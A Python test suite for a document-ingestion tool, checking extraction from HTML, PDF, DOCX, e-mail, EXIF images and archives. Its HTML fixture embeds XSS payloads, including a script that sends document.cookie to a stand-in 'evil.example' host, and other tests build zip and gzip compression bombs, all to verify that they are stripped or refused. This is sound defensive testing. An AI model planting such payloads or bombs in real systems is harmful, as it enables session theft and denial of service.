"""Extraction of text and metadata, archives and e-mail, and hostile inputs."""

import gzip
import io
import json
import random
import tarfile
import zipfile
from email.message import EmailMessage
from pathlib import Path

import docx
from PIL import Image

from tests.conftest import FIXTURES, Cli, write
from tests.pipelines.extract_helpers import only_item, texts

HOSTILE_HTML = """<!DOCTYPE html><html><head><title>Fictional press release</title>
<link rel="canonical" href="https://news.example.org/item/7">
<meta name="author" content="Fictional Desk">
<meta property="article:published_time" content="2020-03-04">
<script>alert('xss'); document.location='https://evil.example/?'+document.cookie</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert(2)"><nav><a href="/">Home</a> | <a href="/about">About us</a></nav>
<article><h1>Fictional press release</h1>
<p>The fictional committee said that at least 120 detainees were moved to Northgate in 1988.
This sentence is long enough to be taken as the main content of the page by the extractor.</p>
<p>A second paragraph, also fictional, adds detail about the transfer and the families.</p>
<img src=x onerror="alert(3)"></article>
<div class="share-buttons">Share on Facebook Share on Twitter</div>
<footer>Copyright 2020 Fictional News. All rights reserved.</footer></body></html>"""


def test_html_main_text_metadata_and_no_scripts(cli: Cli, tmp_path: Path) -> None:
    write(tmp_path / "in", "page.html", HOSTILE_HTML)
    cli("ingest", str(tmp_path / "in"))
    item = only_item(cli, "page.html")
    [text] = texts(cli, item["id"])
    assert "at least 120 detainees" in text
    for boilerplate in ("About us", "Share on Facebook", "Copyright 2020", "alert", "evil"):
        assert boilerplate not in text
    meta = cli.json("show", str(item["id"]))["metadata"]
    assert meta["title"] == "Fictional press release"
    assert meta["author"] == "Fictional Desk" and meta["date"] == "2020-03-04"
    assert meta["canonical_url"] == "https://news.example.org/item/7"


def test_pdf_text_per_page_and_persian_pdf(cli: Cli, tmp_path: Path) -> None:
    cli("ingest", str(FIXTURES / "vault"))
    pages = cli.json("show", str(only_item(cli, "two-pages.pdf")["id"]))["derivatives"]
    assert [d["label"] for d in pages if d["kind"] == "text"] == ["page 1", "page 2"]
    assert "41 testimonies" in texts(cli, only_item(cli, "two-pages.pdf")["id"])[1]
    assert "۱۳۶۷" in texts(cli, only_item(cli, "persian.pdf")["id"])[0]
    tool = pages[0]["tool"]
    assert tool.startswith("gavah-pdf/1 pypdfium2/")


def test_docx_paragraphs_tables_and_properties(cli: Cli, tmp_path: Path) -> None:
    document = docx.Document()
    document.core_properties.author = "Fictional Analyst"
    document.add_paragraph("Fictional memo about the archive.")
    table = document.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text = "Name"
    table.rows[0].cells[1].text = "نام"
    document.save(tmp_path / "memo.docx")
    cli("ingest", str(tmp_path / "memo.docx"))
    item = only_item(cli, "memo.docx")
    assert item["media_type"].endswith("wordprocessingml.document")
    [text] = texts(cli, item["id"])
    assert "Fictional memo" in text and "Name\tنام" in text
    assert cli.json("show", str(item["id"]))["metadata"]["author"] == "Fictional Analyst"


def test_text_in_legacy_and_utf16_encodings(cli: Cli, tmp_path: Path) -> None:
    persian = "یادداشت ساختگی: خانواده‌ها هر هفته جلوی زندان جمع می‌شدند و منتظر خبر بودند."
    legacy = persian.translate({0x6CC: 0x64A})  # Windows-1256 has only the Arabic yeh
    write(tmp_path / "in", "cp1256.txt", legacy.encode("cp1256"))
    write(tmp_path / "in", "utf16.txt", persian.encode("utf-16"))
    write(tmp_path / "in", "latin1.txt", "Fictional café résumé, naïve façade, déjà vu "
          "and a few more accented words: élève, garçon, Noël.".encode("latin-1"))
    cli("ingest", str(tmp_path / "in"))
    assert texts(cli, only_item(cli, "cp1256.txt")["id"]) == [legacy]
    assert texts(cli, only_item(cli, "utf16.txt")["id"]) == [persian]
    assert "déjà vu" in texts(cli, only_item(cli, "latin1.txt")["id"])[0]


def test_email_headers_body_and_attachment_as_child(cli: Cli, tmp_path: Path) -> None:
    message = EmailMessage()
    message["From"] = "Fictional Sender <sender@example.org>"
    message["To"] = "intake@example.org"
    message["Subject"] = "Fictional tip"
    message["Date"] = "Tue, 04 May 2021 11:02:00 +0430"
    message.set_content("The field east of Northgate. See attached list.")
    message.add_attachment(b"name,year\nFictional Person,1988\n", maintype="text",
                           subtype="csv", filename="list.csv")
    write(tmp_path / "in", "tip.eml", bytes(message))
    cli("ingest", str(tmp_path / "in"), "--tag", "tips", "--classification", "confidential")
    mail = only_item(cli, "tip.eml")
    assert mail["media_type"] == "message/rfc822"
    [text] = texts(cli, mail["id"])
    assert "Subject: Fictional tip" in text and "field east of Northgate" in text
    meta = cli.json("show", str(mail["id"]))["metadata"]
    assert meta["date_utc"] == "2021-05-04T11:02:00+04:30" and meta["attachments"] == 1
    child = only_item(cli, "list.csv")
    assert child["parent_id"] == mail["id"] and child["relation"] == "attachment"
    assert child["tags"] == ["tips"] and child["classification"] == "confidential"
    assert "Fictional Person,1988" in texts(cli, child["id"])[0]


def test_image_exif_camera_time_and_gps(cli: Cli, tmp_path: Path) -> None:
    image = Image.new("RGB", (40, 30), (10, 20, 30))
    exif = Image.Exif()
    exif[0x010F] = "FictionalCam"
    exif[0x0110] = "F1"
    exif[0x0132] = "2021:05:04 10:31:00"
    exif[0x8825] = {1: "N", 2: (35.0, 41.0, 12.5), 3: "W", 4: (51.0, 2.0, 30.0)}
    image.save(tmp_path / "photo.jpg", "JPEG", exif=exif)
    cli("ingest", str(tmp_path / "photo.jpg"))
    meta = cli.json("show", str(only_item(cli, "photo.jpg")["id"]))["metadata"]
    assert meta["camera_make"] == "FictionalCam" and meta["camera_model"] == "F1"
    assert meta["modified"] == "2021:05:04 10:31:00"
    assert meta["gps"] == {"latitude": 35.6868056, "longitude": -51.0416667}
    assert (meta["width"], meta["height"]) == (40, 30)


def test_zip_tar_and_gzip_members_become_children(cli: Cli, tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("deep/note.txt", "nested fictional note")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("letters/a.txt", "fictional letter a")
        z.writestr("letters/", "")
        z.writestr("inner.zip", inner.getvalue())
    write(tmp_path / "in", "bundle.zip", buffer.getvalue())
    tar_buffer = io.BytesIO()
    with tarfile.open(fileobj=tar_buffer, mode="w:gz") as t:
        data = b"fictional tar member"
        info = tarfile.TarInfo("docs/t.txt")
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    write(tmp_path / "in", "docs.tar.gz", tar_buffer.getvalue())
    write(tmp_path / "in", "single.txt.gz", gzip.compress(b"fictional gzipped text"))
    cli("ingest", str(tmp_path / "in"))
    items = {i["original_name"]: i for i in cli.json("items")}
    assert items["a.txt"]["parent_id"] == items["bundle.zip"]["id"]
    assert items["a.txt"]["original_path"].endswith("bundle.zip!/letters/a.txt")
    assert items["note.txt"]["parent_id"] == items["inner.zip"]["id"]
    assert items["t.txt"]["parent_id"] == items["docs.tar.gz"]["id"]
    assert items["single.txt"]["parent_id"] == items["single.txt.gz"]["id"]
    assert texts(cli, items["single.txt"]["id"]) == ["fictional gzipped text"]
    assert "letters/" not in items


def test_zip_bomb_is_refused_and_the_archive_kept(cli: Cli, tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z, \
            z.open("zeros.bin", "w", force_zip64=True) as member:
        chunk = bytes(1 << 20)
        for _ in range(64):
            member.write(chunk)
    write(tmp_path / "in", "bomb.zip", buffer.getvalue())
    report = cli.json("ingest", str(tmp_path / "in"))
    [failure] = report["extraction_failed"]
    assert "compression bomb" in failure["reason"] and "zeros.bin" in failure["reason"]
    [item] = cli.json("items")
    assert item["original_name"] == "bomb.zip" and item["extraction"] == "failed"
    assert cli.json("verify")["ok"] is True


def test_gzip_bomb_is_stopped_while_unpacking(cli: Cli, tmp_path: Path) -> None:
    write(tmp_path / "in", "zeros.gz", gzip.compress(bytes(64 << 20), compresslevel=9))
    report = cli.json("ingest", str(tmp_path / "in"))
    assert "compression bomb" in report["extraction_failed"][0]["reason"]
    assert [i["original_name"] for i in cli.json("items")] == ["zeros.gz"]


def test_hostile_and_broken_files_never_lose_the_original(cli: Cli, tmp_path: Path) -> None:
    pdf = (FIXTURES / "vault" / "two-pages.pdf").read_bytes()
    write(tmp_path / "in", "corrupt.pdf", pdf[:400] + b"\x00garbage" * 50)
    write(tmp_path / "in", "empty.txt", b"")
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as z:
        z.writestr("a.txt", "fictional " * 50)
    write(tmp_path / "in", "truncated.zip", whole.getvalue()[:-30])  # no central directory
    write(tmp_path / "in", "binary.dat", random.Random(1).randbytes(5000))
    report = cli.json("ingest", str(tmp_path / "in"))
    assert len(report["acquired"]) == 4
    failed = {f["name"]: f["reason"] for f in report["extraction_failed"]}
    assert "PDF" in failed["corrupt.pdf"] and "zip" in failed["truncated.zip"]
    items = {i["original_name"]: i for i in cli.json("items")}
    assert items["empty.txt"]["size"] == 0 and items["empty.txt"]["extraction"] == "none"
    assert items["binary.dat"]["extraction"] == "none"
    assert {i["original_name"] for i in cli.json("items", "--failed")} == {
        "corrupt.pdf", "truncated.zip"}
    log = cli.json("log", str(items["corrupt.pdf"]["id"]))
    assert [e["action"] for e in log] == ["acquired", "extraction-failed"]
    assert cli.json("verify")["ok"] is True


def test_retry_runs_failed_extractions_again(cli: Cli, tmp_path: Path, home: Path) -> None:
    """A failure is kept, not retried silently; --retry runs it again."""
    write(tmp_path / "in", "bad.pdf", b"%PDF-1.4\n%broken")
    cli("ingest", str(tmp_path / "in"))
    assert cli.json("extract")["extraction_failed"] == []  # nothing pending
    again = cli.json("extract", "--retry")
    assert len(again["extraction_failed"]) == 1
    log = cli.json("log")
    assert [e["action"] for e in log].count("extraction-failed") == 2


def test_no_extract_then_extract_later(cli: Cli, tmp_path: Path) -> None:
    write(tmp_path / "in", "later.txt", "fictional text found later")
    cli("ingest", str(tmp_path / "in"), "--no-extract")
    assert cli.json("search", "later")["total"] == 0
    assert cli.json("extract")["extracted"] == 1
    assert cli.json("search", "later")["total"] == 1
    assert json.loads(cli("extract", "--json").stdout)["extracted"] == 0


def test_identical_derivatives_of_different_files_are_one_blob(cli: Cli, tmp_path: Path) -> None:
    """Two pages with the same metadata, ingested separately: the metadata blob is shared."""
    page = "<html><head><title>Same title</title></head><body><p>{}</p></body></html>"
    write(tmp_path / "a", "a.html", page.format("first fictional page"))
    write(tmp_path / "b", "b.html", page.format("second fictional page"))
    cli("ingest", str(tmp_path / "a"))
    cli("ingest", str(tmp_path / "b"))
    metas = [next(d for d in cli.json("show", str(i["id"]))["derivatives"]
                  if d["kind"] == "metadata")["sha256"] for i in cli.json("items")]
    assert metas[0] == metas[1]
    assert cli.json("verify")["ok"] is True
